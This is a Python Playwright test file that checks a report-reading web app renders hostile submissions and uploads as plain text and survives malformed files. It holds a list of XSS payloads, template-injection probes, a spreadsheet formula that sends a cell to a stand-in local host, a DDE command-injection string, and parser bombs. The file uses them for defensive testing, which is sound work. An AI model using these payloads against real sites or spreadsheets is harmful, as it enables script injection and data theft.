"""Hostile reports are shown and handed out harmlessly, by a real browser under the strict policy."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.web.browser.conftest import Served

RUN = "window.attacked = true"
ATTACKS = {
    "script": f"<script>{RUN}</script>",
    "handler": f"<img src=x onerror='{RUN}'>",
    "quotes": f"\" autofocus onfocus={RUN} x='",
    "address": f"javascript:{RUN}",
    "data": f"data:text/html,<script>{RUN}</script>",
    "template": "{{7*7}} {% raw %} {{ page.__class__ }} ${7*7} <%= 7*7 %>",
    "bidi": "\u202egnp.exe\u2066 and \u200bzero\ufeff width",
    "formula": '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")',
    "command": "+cmd|' /C calc'!A0",
    "huge": "A" * 20_000,
    "closing": "</textarea></script></style></title><!-- <svg/onload=1>",
    "control": "a word with a bell\x07 in it" + " and many without" * 20,
    "combining": "Z" + "\u0301\u0316" * 400,
    "emoji": "\U0001f600\U0001f1f0\U0001f1f5\ufdd0",
}
CLAIM = "North Korea shipped 30 containers of artillery shells to Russia, John Doe said on 3 June 2024."


def safe(page: Page) -> None:
    """Nothing of the report was run or turned into markup of ours."""
    assert page.evaluate("window.attacked") is None
    assert page.locator("#text script, #text img, #text svg, #text [onerror]").count() == 0


@pytest.mark.parametrize("name", ATTACKS)
def test_words_that_attack_are_shown_as_words(page: Page, served: Served, name: str) -> None:
    """In body, title, outlet and further fields, an attack is text; every page that shows it is harmless."""
    attack = ATTACKS[name]
    page.goto(served.base + "/add")
    page.get_by_label("Words of the report").fill(f"{attack}\n\n{CLAIM}\n\n{attack}")
    page.get_by_text("What you know of it").click()
    page.get_by_label("Title").fill(f"{name}: {attack}")
    page.get_by_label("Outlet").fill(attack)
    page.get_by_role("button", name="Read it").click()
    page.wait_for_url("**/reports/r*")
    expect(page.locator("#text")).to_contain_text("30 containers")
    safe(page)
    report = page.url
    claim = page.locator("#cards .card").first.get_attribute("data-claim")
    for address in ("/", "/history", f"/claims/{claim}/edit", f"/claims/{claim}/footnote"):
        page.goto(served.base + address)
        safe(page)
    page.goto(report)
    page.locator("#mend summary").click()
    page.locator("#mend-authors").fill(attack)
    page.get_by_role("button", name="Mend", exact=True).click()
    page.wait_for_url("**/reports/r*")
    safe(page)
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_an_address_that_runs_is_no_link(page: Page, served: Served) -> None:
    """A report that names a script as its address is refused that field, and no link leads there."""
    page.goto(served.base + "/add")
    page.get_by_label("Words of the report").fill(CLAIM)
    page.get_by_text("What you know of it").click()
    page.get_by_label("Its address").fill(ATTACKS["address"])
    page.get_by_role("button", name="Read it").click()
    expect(page.get_by_role("alert")).to_contain_text("give an address that begins with http")
    page.get_by_label("Address of the report").evaluate("(field) => { field.type = 'text'; }")
    page.get_by_label("Its address").fill("")
    page.get_by_label("Words of the report").fill("")
    page.get_by_label("Address of the report").fill(ATTACKS["address"])
    page.get_by_role("button", name="Read it").click()
    expect(page.get_by_role("alert")).to_contain_text("javascript:")
    assert page.locator("a[href^='javascript']").count() == 0


def test_an_uploaded_page_is_text(page: Page, served: Served, tmp_path: Path) -> None:
    """A page full of scripts and addresses that run is read for its words; its metadata is only text."""
    file = tmp_path / "evil.html"
    file.write_text(
        f"<html><head><title>{ATTACKS['quotes']}&lt;img src=x onerror=1></title>"
        f"<meta name=author content='{ATTACKS['script']}'>"
        f"<link rel=canonical href='{ATTACKS['address']}'><meta property='og:site_name' content='=1+1'>"
        f"<base href='http://127.0.0.1:9/'><script>{RUN}</script></head><body onload='{RUN}'><article>"
        f"<p>{CLAIM}</p><p><a href='{ATTACKS['address']}'>more</a></p></article></body></html>",
        "utf-8",
    )
    page.goto(served.base + "/add")
    page.locator("#files").set_input_files(file)
    page.get_by_role("button", name="Read it").click()
    page.wait_for_url("**/reports/r*")
    safe(page)
    assert page.locator("a[href^='javascript']").count() == 0
    with page.expect_download() as download:
        page.get_by_role("link", name="Download the captured bytes").click()
    assert download.value.path().read_bytes() == file.read_bytes()


BOMBS = {
    "deep.html": ("<div>" * 50_000 + CLAIM).encode(),
    "entities.html": f'<!DOCTYPE html [<!ENTITY a "aaa"><!ENTITY b "&a;&a;">]><p>&b;&b;{CLAIM}'.encode(),
    "broken.pdf": b"%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n" + b"\xff" * 5000,
    "surrogates.txt": b"\xed\xa0\x80 half a character \xed\xbf\xbf " + CLAIM.encode(),
    "utf16.txt": CLAIM.encode("utf-16"),
    "zeros.txt": b"\0" * 100_000,
    "lines.jsonl": json.dumps({"id": "<b>", "text": CLAIM, "title": "\ud800"}).encode(),
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_read_or_refused_in_one_line(page: Page, served: Served, tmp_path: Path, name: str) -> None:
    """Whatever is uploaded, the desk answers soon, with the report or with what is wrong, and goes on."""
    file = tmp_path / name
    file.write_bytes(BOMBS[name])
    page.goto(served.base + "/add")
    page.locator("#files").set_input_files(file)
    page.get_by_role("button", name="Read it").click()
    expect(page.locator("#text, [role=alert]").first).to_be_visible()
    expect(page.get_by_role("heading", level=1)).not_to_have_text("Something went wrong")
    safe(page)
    page.goto(served.report("French Navy"))
    expect(page.locator("#cards .card").first).to_be_visible()
